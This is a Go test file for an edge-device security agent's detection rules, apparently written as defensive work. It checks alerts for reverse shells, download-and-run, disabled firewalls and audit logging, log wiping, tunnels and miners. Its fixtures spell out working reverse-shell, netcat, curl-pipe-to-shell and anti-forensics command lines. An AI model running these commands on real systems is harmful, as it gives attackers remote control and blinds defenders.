package detect

import (
	"strings"
	"testing"
	"time"

	"github.com/edgesec/edgesec/event"
	"github.com/edgesec/edgesec/twinconfig"
)

// TestProcessRules: every command-line rule fires on its positive command
// and stays quiet on a near miss.
func TestProcessRules(t *testing.T) {
	cases := []struct {
		rule     string
		pos, neg event.Event
	}{
		{RuleReverseShell, proc("/usr/bin/bash", "sh -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"), proc("/usr/bin/bash", "bash -c echo /dev/null")},
		{RuleReverseShell, proc("/usr/bin/python3.11", `python3 -c import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.7",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])`),
			proc("/usr/bin/python3.11", "python3 -c import socket; print(socket.gethostname())")},
		{RuleReverseShell, proc("/usr/bin/bash", "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f"), proc("/usr/bin/mkfifo", "mkfifo /tmp/pipe")},
		{RuleNetcatRCE, proc("/usr/bin/nc.openbsd", "nc -e /bin/sh 198.51.100.7 4444"), proc("/usr/bin/nc.openbsd", "nc -zv 198.51.100.7 4444")},
		{RuleNetcatRCE, proc("/usr/bin/socat", "socat TCP-LISTEN:4444,reuseaddr EXEC:/bin/bash"), proc("/usr/bin/socat", "socat - TCP:198.51.100.7:80")},
		{RuleDownloadThenRun, proc("/usr/bin/dash", "sh -c curl -s http://198.51.100.7/x.sh | sh"), proc("/usr/bin/dash", "sh -c curl -s http://198.51.100.7/x.json > /tmp/x.json")},
		{RuleDownloadThenRun, proc("/usr/bin/dash", "sh -c wget -q http://198.51.100.7/b -O /tmp/b && chmod +x /tmp/b && /tmp/b"), proc("/usr/bin/wget", "wget -q http://198.51.100.7/b -O /tmp/b")},
		{RuleCryptoMiner, proc("/usr/bin/dash", "sh -c echo cpuminer-multi"), proc("/usr/bin/dash", "sh -c echo hello")},
		{RuleCryptoMiner, proc("/tmp/cpuminer-multi", "/tmp/cpuminer-multi -o stratum+tcp://127.0.0.1:1"), proc("/usr/bin/top", "top -b -n 1")},
		{RuleCryptoMiner, proc("/opt/x/kworker", "kworker -o stratum+tcp://pool.example:3333 -u wallet"), proc("/opt/x/kworker", "kworker -o tcp://10.0.0.1:3333")},
		{RuleBinaryCommandLine, proc("/usr/bin/dash", `sh -c printf '\x7fELF\x02\x01' > /tmp/x`), proc("/usr/bin/dash", `sh -c printf '\x41\x42'`)},
		{RuleBinaryCommandLine, proc("/usr/bin/dash", "sh -c echo f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA | base64 -d > /tmp/x"), proc("/usr/bin/base64", "base64 -d /tmp/x")},
		{RuleDisableFirewall, proc("/usr/sbin/ufw", "ufw disable"), proc("/usr/sbin/ufw", "ufw status")},
		{RuleDisableFirewall, proc("/usr/sbin/xtables-nft-multi", "iptables -P INPUT ACCEPT"), proc("/usr/sbin/xtables-nft-multi", "iptables -P INPUT DROP")},
		{RuleDisableFirewall, proc("/usr/sbin/iptables-legacy", "iptables -F"), proc("/usr/sbin/iptables-legacy", "iptables --wait -t filter -F DOCKER-ISOLATION-STAGE-1")},
		{RuleDisableFirewall, proc("/usr/bin/systemctl", "systemctl stop firewalld.service"), proc("/usr/bin/systemctl", "systemctl status firewalld")},
		{RuleDisableFirewall, proc("/usr/sbin/nft", "nft flush ruleset"), proc("/usr/sbin/nft", "nft list ruleset")},
		{RuleDisableAuditd, proc("/usr/sbin/auditctl", "auditctl -e 0"), proc("/usr/sbin/auditctl", "auditctl -e 1")},
		{RuleDisableAuditd, proc("/usr/bin/systemctl", "systemctl stop auditd"), proc("/usr/bin/systemctl", "systemctl restart auditd")},
		{RuleDisableAuditd, proc("/usr/sbin/auditctl", "auditctl -D"), proc("/usr/sbin/auditctl", "auditctl -l")},
		{RuleRemovalOfSystemLogs, proc("/usr/bin/rm", "rm -f /var/log/auth.log"), proc("/usr/bin/rm", "rm -f /tmp/auth.log")},
		{RuleRemovalOfSystemLogs, proc("/usr/bin/truncate", "truncate -s 0 /var/log/wtmp"), proc("/usr/bin/rm", "rm -f /var/log/app.log", "ParentExecutable", "/usr/sbin/logrotate")},
		{RuleClearHistoryFile, proc("/usr/bin/rm", "rm /root/.bash_history"), proc("/usr/bin/cat", "cat /root/.bash_history")},
		{RuleClearHistoryFile, proc("/usr/bin/ln", "ln -sf /dev/null /root/.bash_history"), proc("/usr/bin/cp", "cp /root/.bash_history /backup/")},
		{RulePortForwarding, proc("/usr/bin/ssh", "ssh -o BatchMode=yes -N -R 8080:localhost:22 nobody@203.0.113.10"), proc("/usr/bin/ssh", "ssh -N -R 8080:localhost:22 nobody@127.0.0.1")},
		{RulePortForwarding, proc("/usr/bin/ssh", "ssh -fNL 5432:db:5432 jump.example.com"), proc("/usr/bin/ssh", "ssh -l admin jump.example.com uptime")},
		{RulePortForwarding, proc("/usr/bin/socat", "socat TCP-LISTEN:8080,fork TCP:203.0.113.10:80"), proc("/usr/bin/socat", "socat TCP-LISTEN:8080,fork UNIX:/run/app.sock")},
		{RulePortForwarding, proc("/usr/sbin/sysctl", "sysctl -w net.ipv4.ip_forward=1"), proc("/usr/sbin/sysctl", "sysctl net.ipv4.ip_forward")},
		{RuleExposedDocker, proc("/usr/bin/dockerd", "dockerd -H unix:///tmp/d.sock -H tcp://127.0.0.1:2375"), proc("/usr/bin/dockerd", "dockerd -H fd:// --containerd=/run/containerd/containerd.sock")},
		{RuleShellByService, proc("/usr/bin/dash", "sh -c id", "ParentExecutable", "/usr/sbin/nginx", "ParentComm", "nginx"), proc("/usr/bin/dash", "sh -c id", "ParentExecutable", "/usr/sbin/cron", "ParentComm", "cron")},
	}
	for _, c := range cases {
		p := c.pos.Payload[0].(*event.ProcessCreatePayload)
		t.Run(c.rule+"/"+p.CommandLine[:min(30, len(p.CommandLine))], func(t *testing.T) {
			h := newHarness(t, Options{})
			got := alertsOf(h.feed(c.pos), c.rule)
			if len(got) != 1 {
				t.Fatalf("positive %q: %d %s alerts, want 1 (all: %v)", p.CommandLine, len(got), c.rule, alertsOf(h.out, ""))
			}
			a := got[0]
			if a.Executable != p.Executable || a.ProcessID != p.ProcessID || a.CommandLine != p.CommandLine || a.Description == "" ||
				len(a.TriggerEventIDs) != 1 || a.TriggerEventIDs[0] != c.pos.ID {
				t.Errorf("alert entity/trigger: %+v", a)
			}
			h2 := newHarness(t, Options{})
			if got := alertsOf(h2.feed(c.neg), c.rule); len(got) != 0 {
				t.Errorf("negative %q raised %s: %s", c.neg.Payload[0].(*event.ProcessCreatePayload).CommandLine, c.rule, got[0].Description)
			}
		})
	}
}

func TestReverseShellRemoteAddress(t *testing.T) {
	h := newHarness(t, Options{})
	a := alertsOf(h.feed(proc("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")), RuleReverseShell)
	if len(a) != 1 || a[0].RemoteAddress != "198.51.100.7" || a[0].RemotePort != "4444" {
		t.Fatalf("%+v", a)
	}
}

func TestReverseShellByConnection(t *testing.T) {
	h := newHarness(t, Options{})
	if a := alertsOf(h.feed(conn(event.DirectionOut, "/usr/bin/bash", "198.51.100.7")), RuleReverseShell); len(a) != 1 || a[0].RemoteAddress != "198.51.100.7" {
		t.Fatalf("shell connecting out: %+v", a)
	}
	for _, ev := range []event.Event{conn(event.DirectionOut, "/usr/bin/bash", "127.0.0.1"), conn(event.DirectionOut, "/usr/bin/curl", "198.51.100.7"),
		conn(event.DirectionIn, "/usr/bin/bash", "198.51.100.8")} {
		if a := alertsOf(h.feed(ev), RuleReverseShell); len(a) != 0 {
			t.Errorf("%+v raised %+v", ev.Payload[0], a[0])
		}
	}
}

func TestDownloadThenLaterRun(t *testing.T) {
	h := newHarness(t, Options{})
	h.feed(proc("/usr/bin/wget", "wget -q -O /tmp/b http://198.51.100.7/true"))
	h.clock.Add(5 * time.Minute)
	run := proc("/tmp/b", "/tmp/b")
	a := alertsOf(h.feed(run), RuleLinuxBackdoor)
	if len(a) != 1 || !strings.Contains(a[0].Description, "wget -q -O /tmp/b") {
		t.Fatalf("later run: %+v", a)
	}
	// A script run by a shell counts too.
	h.feed(proc("/usr/bin/curl", "curl -s http://198.51.100.7/x.sh -o /tmp/x.sh"))
	if a := alertsOf(h.feed(proc("/usr/bin/dash", "sh /tmp/x.sh")), RuleLinuxBackdoor); len(a) != 1 {
		t.Fatalf("sh script: %+v", a)
	}
	// Negative: another path, and the same path after the TTL.
	h.feed(proc("/usr/bin/wget", "wget -q -O /tmp/c http://198.51.100.7/true"))
	if a := alertsOf(h.feed(proc("/tmp/d", "/tmp/d")), RuleLinuxBackdoor); len(a) != 0 {
		t.Errorf("other path: %+v", a[0])
	}
	h.clock.Add(16 * time.Minute)
	if a := alertsOf(h.feed(proc("/tmp/c", "/tmp/c")), RuleLinuxBackdoor); len(a) != 0 {
		t.Errorf("after the TTL: %+v", a[0])
	}
}

func TestAuditdKillAndTerminate(t *testing.T) {
	h := newHarness(t, Options{})
	ad := proc("/usr/sbin/auditd", "/sbin/auditd")
	pid := ad.Payload[0].(*event.ProcessCreatePayload).ProcessID
	h.feed(ad)
	if a := alertsOf(h.feed(proc("/usr/bin/kill", "kill "+event.Itoa(pid))), RuleDisableAuditd); len(a) != 1 {
		t.Fatalf("kill of auditd's pid: %+v", a)
	}
	if a := alertsOf(h.feed(proc("/usr/bin/kill", "kill 1")), RuleDisableAuditd); len(a) != 0 {
		t.Errorf("kill of another pid: %+v", a[0])
	}
	term := event.Must(event.ProcessTerminate, t0, &event.ProcessTerminatePayload{Executable: "/usr/sbin/auditd", ProcessID: pid})
	if a := alertsOf(h.feed(term), RuleDisableAuditd); len(a) != 1 {
		t.Fatalf("auditd terminated: %+v", a)
	}
	other := event.Must(event.ProcessTerminate, t0, &event.ProcessTerminatePayload{Executable: "/usr/sbin/sshd", ProcessID: 5})
	if a := alertsOf(h.feed(other), RuleDisableAuditd); len(a) != 0 {
		t.Errorf("sshd terminated: %+v", a[0])
	}
}

func TestLogRemovalByLogrotateDescendant(t *testing.T) {
	h := newHarness(t, Options{})
	lr := proc("/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf")
	lrPid := lr.Payload[0].(*event.ProcessCreatePayload).ProcessID
	sh := proc("/usr/bin/dash", "sh -c postrotate", "ParentExecutable", "/usr/sbin/logrotate")
	shp := sh.Payload[0].(*event.ProcessCreatePayload)
	shp.ParentProcessID = lrPid
	rm := proc("/usr/bin/rm", "rm -f /var/log/app.log.5", "ParentExecutable", "/usr/bin/dash")
	rm.Payload[0].(*event.ProcessCreatePayload).ParentProcessID = shp.ProcessID
	if a := alertsOf(h.feed(lr, sh, rm), RuleRemovalOfSystemLogs); len(a) != 0 {
		t.Errorf("grandchild of logrotate: %+v", a[0])
	}
}

func TestShellInContainer(t *testing.T) {
	const cid = "4f1e2d3c4b5a69788796a5b4c3d2e1f00112233445566778899aabbccddeeff"
	h := newHarness(t, Options{})
	entry := proc("/bin/sh", "sh -c sleep 1000", "ContainerId", cid, "ModuleName", "tempSensor", "ParentExecutable", "/usr/bin/containerd-shim-runc-v2")
	if a := alertsOf(h.feed(entry), RuleShellInContainer); len(a) != 0 {
		t.Fatalf("entrypoint shell: %+v", a[0])
	}
	h.clock.Add(10 * time.Second)
	exec := proc("/bin/sh", "sh", "ContainerId", cid, "ModuleName", "tempSensor", "ParentExecutable", "/memfd:runc_cloned:/proc/self/exe (deleted)", "ParentComm", "runc:[2:INIT]")
	a := alertsOf(h.feed(exec), RuleShellInContainer)
	if len(a) != 1 || a[0].ModuleName != "tempSensor" || a[0].ContainerID != cid {
		t.Fatalf("exec'd shell: %+v", a)
	}
	// A shell started by the container's own process is not a terminal.
	own := proc("/bin/sh", "sh -c date", "ContainerId", cid, "ParentExecutable", "/usr/bin/python3")
	if a := alertsOf(h.feed(own), RuleShellInContainer); len(a) != 0 {
		t.Errorf("shell of the module's program: %+v", a[0])
	}
	// ContainerActivity exec_start of a shell.
	h2 := newHarness(t, Options{})
	ca := event.Must(event.ContainerActivity, t0, &event.ContainerActivityPayload{Action: "exec_start", ContainerID: cid, ContainerName: "tempSensor",
		ModuleName: "tempSensor", Runtime: "moby", Command: "sh"})
	if a := alertsOf(h2.feed(ca), RuleShellInContainer); len(a) != 1 {
		t.Fatalf("exec_start sh: %+v", a)
	}
	ca2 := event.Must(event.ContainerActivity, t0, &event.ContainerActivityPayload{Action: "exec_start", ContainerID: cid, Runtime: "moby", Command: "cat /etc/os-release"})
	if a := alertsOf(h2.feed(ca2), RuleShellInContainer); len(a) != 0 {
		t.Errorf("exec_start cat: %+v", a[0])
	}
}

func TestContainerRules(t *testing.T) {
	inv := func(image string, privileged bool) event.Event {
		return event.Must(event.ContainerInventory, t0, &event.ContainerInventoryPayload{ContainerID: "c1" + image, Name: "m", ModuleName: "m",
			Runtime: "moby", Image: image, State: "running", Privileged: privileged, StartedAt: "2026-12-06T11:00:00Z"})
	}
	h := newHarness(t, Options{Builtin: BuiltinOptions{TrustedImages: []string{"mcr.microsoft.com/azureiotedge-*"}}})
	if a := alertsOf(h.feed(inv("docker.io/library/alpine:3.19", true)), RulePrivilegedContainer); len(a) != 1 {
		t.Fatalf("privileged: %+v", a)
	}
	if a := alertsOf(h.feed(inv("docker.io/library/alpine:3.19", true)), RulePrivilegedContainer); len(a) != 0 {
		t.Errorf("the same container start alerted twice")
	}
	if a := alertsOf(h.feed(inv("docker.io/library/nginx:1", false), inv("mcr.microsoft.com/azureiotedge-agent:1.5", true)), RulePrivilegedContainer); len(a) != 0 {
		t.Errorf("unprivileged or trusted: %+v", a[0])
	}
	if a := alertsOf(h.feed(inv("local/xmrig:test", false)), RuleCryptoMinerContainer); len(a) != 1 {
		t.Fatalf("miner image: %+v", a)
	}
	pull := event.Must(event.ContainerActivity, t0, &event.ContainerActivityPayload{Action: "pull", Image: "docker.io/minergate/minergate-cli:latest", Runtime: "moby"})
	if a := alertsOf(h.feed(pull), RuleCryptoMinerContainer); len(a) != 1 {
		t.Fatalf("miner pull: %+v", a)
	}
	if a := alertsOf(h.feed(inv("docker.io/library/redis:7", false)), RuleCryptoMinerContainer); len(a) != 0 {
		t.Errorf("redis: %+v", a[0])
	}
}

func TestLoginRules(t *testing.T) {
	h := newHarness(t, Options{})
	if a := alertsOf(h.feed(login(event.LoginSuccess, "pi", "192.0.2.10")), RuleSuccessfulLocalLogin); len(a) != 1 || a[0].RemoteAddress != "192.0.2.10" || a[0].UserName != "pi" {
		t.Fatalf("success: %+v", a)
	}
	logout := login(event.LoginSuccess, "pi", "192.0.2.10")
	logout.Payload[0].(*event.LoginPayload).Operation = "Logout"
	if a := alertsOf(h.feed(logout), ""); len(a) != 0 {
		t.Errorf("logout: %+v", a[0])
	}
	// Four failures: failed logins, no brute force; the fifth: brute force.
	var out []event.Event
	for range 4 {
		out = append(out, h.feed(login(event.LoginFail, "root", "203.0.113.9"))...)
		h.clock.Add(time.Second)
	}
	if a := alertsOf(out, RuleFailedLocalLogin); len(a) != 1 {
		t.Errorf("failed logins: %d alerts, want 1 (deduplicated)", len(a))
	}
	if a := alertsOf(out, RuleFailedBruteforce); len(a) != 0 {
		t.Fatalf("brute force after 4 failures")
	}
	if a := alertsOf(h.feed(login(event.LoginFail, "admin", "203.0.113.9")), RuleFailedBruteforce); len(a) != 1 {
		t.Fatalf("brute force after 5 failures: %+v", a)
	}
	// A success from another address is not a successful brute force.
	if a := alertsOf(h.feed(login(event.LoginSuccess, "admin", "198.51.100.1")), RuleSuccessfulBruteforce); len(a) != 0 {
		t.Errorf("other source: %+v", a[0])
	}
	if a := alertsOf(h.feed(login(event.LoginSuccess, "admin", "203.0.113.9")), RuleSuccessfulBruteforce); len(a) != 1 {
		t.Fatalf("success after brute force: %+v", a)
	}
	// Failures spread beyond the window are no brute force.
	h2 := newHarness(t, Options{})
	for range 6 {
		if a := alertsOf(h2.feed(login(event.LoginFail, "root", "203.0.113.50")), RuleFailedBruteforce); len(a) != 0 {
			t.Fatal("brute force from failures 3 minutes apart")
		}
		h2.clock.Add(3 * time.Minute)
	}
	// syslog's "message repeated 5 times" counts five.
	h3 := newHarness(t, Options{})
	rep := login(event.LoginFail, "root", "203.0.113.60")
	rep.Payload[0].(*event.LoginPayload).ExtraDetails["RepeatCount"] = "5"
	if a := alertsOf(h3.feed(rep), RuleFailedBruteforce); len(a) != 1 {
		t.Errorf("repeated line: %+v", a)
	}
}

func TestOpenPortsRecommendation(t *testing.T) {
	h := newHarness(t, Options{Builtin: BuiltinOptions{AllowedPorts: []string{"tcp/22"}}})
	s1 := snap(event.ListeningPorts, t0, listen("TCP", "0.0.0.0", "8888", "/usr/bin/nc.openbsd"), listen("TCP", "0.0.0.0", "22", "/usr/sbin/sshd"),
		listen("TCP", "127.0.0.1", "631", "/usr/sbin/cupsd"), listen("UDP", "::", "5353", ""))
	r := recsOf(h.feed(s1), RecOpenPorts)
	if len(r) != 2 {
		t.Fatalf("%d recommendations, want 2 (8888 and udp 5353): %+v", len(r), r)
	}
	var nc *event.SecurityRecommendationPayload
	for _, x := range r {
		if x.Entity == "TCP 0.0.0.0:8888" {
			nc = x
		}
	}
	if nc == nil || nc.State != event.RecommendationActive || !strings.Contains(nc.Evidence, "/usr/bin/nc.openbsd (pid 812, user root)") || nc.ExtraDetails["Executable"] != "/usr/bin/nc.openbsd" {
		t.Fatalf("8888: %+v", nc)
	}
	// The same snapshot again: nothing new.
	if r := recsOf(h.feed(snap(event.ListeningPorts, t0.Add(time.Hour), s1.Payload...)), ""); len(r) != 0 {
		t.Errorf("unchanged snapshot: %+v", r)
	}
	// The listener closes: Resolved, with the same entity.
	s3 := snap(event.ListeningPorts, t0.Add(2*time.Hour), s1.Payload[1], s1.Payload[3])
	r = recsOf(h.feed(s3), RecOpenPorts)
	if len(r) != 1 || r[0].State != event.RecommendationResolved || r[0].Entity != "TCP 0.0.0.0:8888" || r[0].FirstSeenUTC != nc.FirstSeenUTC {
		t.Fatalf("after close: %+v", r)
	}
}

func TestSplitSnapshotIsOne(t *testing.T) {
	h := newHarness(t, Options{})
	a := snap(event.ListeningPorts, t0, listen("TCP", "0.0.0.0", "8888", "/usr/bin/nc"))
	b := snap(event.ListeningPorts, t0, listen("TCP", "0.0.0.0", "9999", "/usr/bin/nc"))
	h.feed(a, b)
	// The next snapshot, split the same way: no flapping.
	a2 := snap(event.ListeningPorts, t0.Add(time.Hour), a.Payload...)
	b2 := snap(event.ListeningPorts, t0.Add(time.Hour), b.Payload...)
	if r := recsOf(h.feed(a2, b2), ""); len(r) != 0 {
		t.Errorf("split snapshot flapped: %+v", r)
	}
	if n := len(h.s.Active()); n != 2 {
		t.Errorf("%d active, want 2", n)
	}
}

func TestFirewallRules(t *testing.T) {
	h := newHarness(t, Options{})
	hardened := []event.Item{fwPolicy("INPUT", "input", event.ActionDeny), fwPolicy("OUTPUT", "output", event.ActionAllow),
		fwRule("INPUT", "input", 0, event.ActionAllow, "", "", "State", "RELATED,ESTABLISHED"),
		fwRule("INPUT", "input", 1, event.ActionAllow, "10.0.0.0/8", "22"),
		fwRule("INPUT", "input", 2, event.ActionAllow, "", "", "InInterface", "lo")}
	out := h.feed(snap(event.FirewallConfiguration, t0, hardened...))
	if r := recsOf(out, RecPermissivePolicy); len(r) != 1 || !strings.Contains(r[0].Entity, "OUTPUT") {
		t.Errorf("policy: %+v", r)
	}
	if r := recsOf(out, RecPermissiveInputRules); len(r) != 0 {
		t.Errorf("restricted input rules flagged: %+v", r[0])
	}
	if a := alertsOf(out, RuleDisableFirewall); len(a) != 0 {
		t.Errorf("first snapshot alerted: %+v", a[0])
	}
	// iptables -P INPUT ACCEPT: the snapshot diff alerts, the policy
	// recommendation gains INPUT.
	opened := append([]event.Item{fwPolicy("INPUT", "input", event.ActionAllow)}, hardened[1:]...)
	out = h.feed(snap(event.FirewallConfiguration, t0.Add(time.Hour), opened...))
	if a := alertsOf(out, RuleDisableFirewall); len(a) != 1 || !strings.Contains(a[0].Description, "policy of iptables-nft ipv4 filter INPUT changed from Deny to Allow") {
		t.Fatalf("policy to accept: %+v", a)
	}
	if r := recsOf(out, RecPermissivePolicy); len(r) != 1 || !strings.Contains(r[0].Entity, "INPUT") || r[0].State != event.RecommendationActive {
		t.Errorf("policy recommendation: %+v", r)
	}
	// A wide-open input rule and output rule.
	wide := append(append([]event.Item(nil), opened...), fwRule("INPUT", "input", 3, event.ActionAllow, "0.0.0.0/0", "1:65535", "Rule", "-A INPUT -p tcp --dport 1:65535 -j ACCEPT"),
		fwRule("OUTPUT", "output", 0, event.ActionAllow, "", ""))
	out = h.feed(snap(event.FirewallConfiguration, t0.Add(2*time.Hour), wide...))
	if r := recsOf(out, RecPermissiveInputRules); len(r) != 1 || !strings.Contains(r[0].Entity, "--dport 1:65535") {
		t.Errorf("input rule: %+v", r)
	}
	if r := recsOf(out, RecPermissiveOutputRules); len(r) != 1 {
		t.Errorf("output rule: %+v", r)
	}
	if a := alertsOf(out, RuleDisableFirewall); len(a) != 0 {
		t.Errorf("added rules alerted: %+v", a[0])
	}
	// iptables -F: the INPUT rules vanish.
	flushed := []event.Item{fwPolicy("INPUT", "input", event.ActionAllow), fwPolicy("OUTPUT", "output", event.ActionAllow)}
	out = h.feed(snap(event.FirewallConfiguration, t0.Add(3*time.Hour), flushed...))
	if a := alertsOf(out, RuleDisableFirewall); len(a) != 1 || !strings.Contains(a[0].Description, "flushed") {
		t.Fatalf("flush: %+v", a)
	}
	if r := recsOf(out, RecPermissiveInputRules); len(r) != 1 || r[0].State != event.RecommendationResolved {
		t.Errorf("input rule resolved: %+v", r)
	}
}

func TestUSBConnection(t *testing.T) {
	dev := func(name, port string, storage bool) *event.ConnectedHardwarePayload {
		x := event.ExtraDetails{"Port": port, "VendorId": "0781", "ProductId": "5567"}
		if storage {
			x["MassStorage"] = "true"
		} else {
			x["HID"], x["Keyboard"] = "true", "true"
		}
		return &event.ConnectedHardwarePayload{HardwareCategory: "USB", HardwareSubCategory: "MassStorage", HardwareName: name, ExtraDetails: x}
	}
	serial := &event.ConnectedHardwarePayload{HardwareCategory: "USB", HardwareSubCategory: "Serial", HardwareName: "FTDI", ExtraDetails: event.ExtraDetails{"Port": "1-2"}}
	h := newHarness(t, Options{})
	if a := alertsOf(h.feed(snap(event.ConnectedHardware, t0, dev("Cruzer", "1-1", true))), RuleUSBConnection); len(a) != 0 {
		t.Fatal("the first snapshot is the baseline")
	}
	if a := alertsOf(h.feed(snap(event.ConnectedHardware, t0.Add(time.Minute), dev("Cruzer", "1-1", true), serial)), RuleUSBConnection); len(a) != 0 {
		t.Errorf("a serial adapter: %+v", a[0])
	}
	a := alertsOf(h.feed(snap(event.ConnectedHardware, t0.Add(2*time.Minute), dev("Cruzer", "1-1", true), dev("Rubber Ducky", "1-3", false))), RuleUSBConnection)
	if len(a) != 1 || !strings.Contains(a[0].Description, "keyboard") {
		t.Fatalf("new keyboard: %+v", a)
	}
}

func TestExposedDockerByListener(t *testing.T) {
	h := newHarness(t, Options{})
	a := alertsOf(h.feed(snap(event.ListeningPorts, t0, listen("TCP", "0.0.0.0", "2375", "/usr/bin/dockerd"))), RuleExposedDocker)
	if len(a) != 1 || a[0].ProcessID != 812 || a[0].LocalPort != "2375" {
		t.Fatalf("%+v", a)
	}
	if a := alertsOf(h.feed(snap(event.ListeningPorts, t0.Add(time.Hour), listen("TCP", "0.0.0.0", "2375", "/usr/bin/python3"))), RuleExposedDocker); len(a) != 0 {
		t.Errorf("another owner: %+v", a[0])
	}
}

func TestBaselineRecommendation(t *testing.T) {
	h := newHarness(t, Options{})
	fail := &event.OSBaselinePayload{CceID: "CCE-14011-3", Description: "Ensure SSH root login is disabled", Result: event.BaselineFail, Severity: event.SeverityCritical}
	fail2 := &event.OSBaselinePayload{CceID: "CCE-3561-8", Description: "Ensure auditd is installed", Result: event.BaselineFail, Severity: event.SeverityWarning}
	errd := &event.OSBaselinePayload{CceID: "CCE-1", Description: "x", Result: event.BaselineErr, Error: "unreadable", Severity: event.SeverityCritical}
	r := recsOf(h.feed(snap(event.OSBaseline, t0, fail, fail2, errd)), RecBaseline)
	if len(r) != 1 || !strings.HasPrefix(r[0].Evidence, "2 failed checks") || r[0].ExtraDetails["WorstSeverity"] != event.SeverityCritical {
		t.Fatalf("%+v", r)
	}
	if r := recsOf(h.feed(snap(event.OSBaseline, t0.Add(time.Hour), errd)), RecBaseline); len(r) != 1 || r[0].State != event.RecommendationResolved {
		t.Fatalf("resolved: %+v", r)
	}
}

func TestDeploymentRecommendations(t *testing.T) {
	h := newHarness(t, Options{})
	dr := func(rule, module string) *event.DeploymentRecommendationPayload {
		return &event.DeploymentRecommendationPayload{RuleID: rule, Severity: event.FindingCritical, Title: "t " + rule, Module: module, Source: "runtime"}
	}
	out := h.feed(snap(event.DeploymentRecommendation, t0, dr("EDGE001", "sensor"), dr("EDGE021", ""), dr("EDGE027", "sensor"), dr("EDGE026", "sensor")))
	if len(recsOf(out, RecPrivilegedDockerOptions)) != 1 || len(recsOf(out, RecEdgeHubMemOptimize)) != 1 || len(recsOf(out, RecEdgeLoggingOptions)) != 1 || len(recsOf(out, "")) != 3 {
		t.Fatalf("%+v", recsOf(out, ""))
	}
	out = h.feed(snap(event.DeploymentRecommendation, t0.Add(time.Hour), dr("EDGE021", "")))
	if r := recsOf(out, ""); len(r) != 2 || r[0].State != event.RecommendationResolved || r[1].State != event.RecommendationResolved {
		t.Fatalf("resolved: %+v", r)
	}
}

func TestUnderutilizedMessages(t *testing.T) {
	h := newHarness(t, Options{})
	ms := func(sent, under int64) event.Event {
		return event.Must(event.MessageStatistics, t0, &event.MessageStatisticsPayload{MessagesSent: sent, MessagesUnder4KB: under})
	}
	if r := recsOf(h.feed(ms(100, 5)), RecUnderutilizedMessages); len(r) != 0 {
		t.Fatalf("5%%: %+v", r)
	}
	h.clock.Add(time.Hour)
	if r := recsOf(h.feed(ms(100, 30)), RecUnderutilizedMessages); len(r) != 1 || !strings.Contains(r[0].Evidence, "35 of 200") {
		t.Fatalf("17.5%%: %+v", r)
	}
	h.clock.Add(25 * time.Hour)
	if r := recsOf(h.feed(ms(100, 1)), RecUnderutilizedMessages); len(r) != 1 || r[0].State != event.RecommendationResolved {
		t.Fatalf("after the window: %+v", r)
	}
}

func TestTwinConfigurationRecommendations(t *testing.T) {
	h := newHarness(t, Options{})
	ce := event.Must(event.ConfigurationError, t0,
		&event.ConfigurationErrorPayload{ConfigurationName: "maxMessageSizeInBytes", ErrorType: event.NotOptimal, UsedConfiguration: "5000", Message: "not a multiple of 4096"},
		&event.ConfigurationErrorPayload{ConfigurationName: "highPriorityMessageFrequency", ErrorType: event.Conflict, UsedConfiguration: "PT6H", Message: "longer than low"})
	out := h.feed(ce)
	if len(recsOf(out, RecTwinNotOptimal)) != 1 || len(recsOf(out, RecTwinConflict)) != 1 {
		t.Fatalf("%+v", recsOf(out, ""))
	}
	mismatch := event.Must(event.ConfigurationError, t0, &event.ConfigurationErrorPayload{ConfigurationName: "x", ErrorType: event.TypeMismatch, Message: "bad"})
	if r := recsOf(h.feed(mismatch), ""); len(r) != 0 {
		t.Errorf("TypeMismatch changed the recommendations: %+v", r)
	}
}

// TestWrapperAndChildAlertOnce: timeout (or sh -c) carries its child's
// command line; the child raising the same rule is folded.
func TestWrapperAndChildAlertOnce(t *testing.T) {
	h := newHarness(t, Options{})
	wrap := proc("/usr/bin/timeout", "timeout 2 bash -c bash -i >& /dev/tcp/198.51.100.7/9 0>&1")
	wp := wrap.Payload[0].(*event.ProcessCreatePayload)
	child := proc("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/198.51.100.7/9 0>&1")
	child.Payload[0].(*event.ProcessCreatePayload).ParentProcessID = wp.ProcessID
	other := proc("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/198.51.100.7/9 0>&1")
	if a := alertsOf(h.feed(wrap, child), RuleReverseShell); len(a) != 1 || a[0].Executable != "/usr/bin/timeout" {
		t.Fatalf("wrapper and child: %+v", a)
	}
	// The same command from an unrelated parent is another alert.
	if a := alertsOf(h.feed(other), RuleReverseShell); len(a) != 1 {
		t.Fatalf("unrelated process: %+v", a)
	}
}

// The twin configuration recommendations resolve once the configuration is
// fixed: NotOptimal follows every applied configuration, Conflict resolves
// when a new twin version is accepted.
func TestTwinConfigurationRecommendationsResolve(t *testing.T) {
	h := newHarness(t, Options{})
	recs := func() []*event.SecurityRecommendationPayload { return recsOf(h.s.Tick(), "") }

	bad := twinconfig.Default()
	bad.MaxMessageSizeInBytes = 10000
	bad.Version = 3
	if err := h.s.ApplyConfig(bad); err != nil {
		t.Fatal(err)
	}
	if r := recs(); len(r) != 1 || r[0].RecommendationType != RecTwinNotOptimal || r[0].State != event.RecommendationActive || r[0].Entity != "maxMessageSizeInBytes" {
		t.Fatalf("not optimal configuration applied: %+v", r)
	}
	// A refused document in Conflict (the running configuration stays).
	h.feed(event.Must(event.ConfigurationError, t0, &event.ConfigurationErrorPayload{ConfigurationName: "highPriorityMessageFrequency",
		ErrorType: event.Conflict, UsedConfiguration: "PT7M", Message: "longer than low"},
		notOptimalItem(t, bad)))
	active := h.s.Active()
	if len(active) != 2 {
		t.Fatalf("active after the refused document: %+v", active)
	}
	// The same version again (a reconnect replays it): nothing resolves.
	if err := h.s.ApplyConfig(bad); err != nil {
		t.Fatal(err)
	}
	if r := recs(); len(r) != 0 {
		t.Fatalf("same configuration again changed recommendations: %+v", r)
	}
	// The operator fixes the twin: version 5, a multiple of 4096.
	good := bad.Clone()
	good.MaxMessageSizeInBytes = 8192
	good.Version = 5
	if err := h.s.ApplyConfig(good); err != nil {
		t.Fatal(err)
	}
